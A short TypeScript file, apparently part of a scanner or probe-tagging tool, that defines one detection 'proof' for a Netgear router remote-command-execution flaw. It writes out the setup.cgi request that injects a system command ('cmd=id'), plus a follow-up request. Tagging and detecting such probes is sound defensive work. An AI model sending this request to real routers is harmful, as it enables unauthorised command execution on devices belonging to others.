import { type Proof, get, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'netgear-setup-rce',
    get('/setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=id&curpath=/&currentsetting.htm=1'),
    get('/setup.cgi?todo=show'),
  ),
]
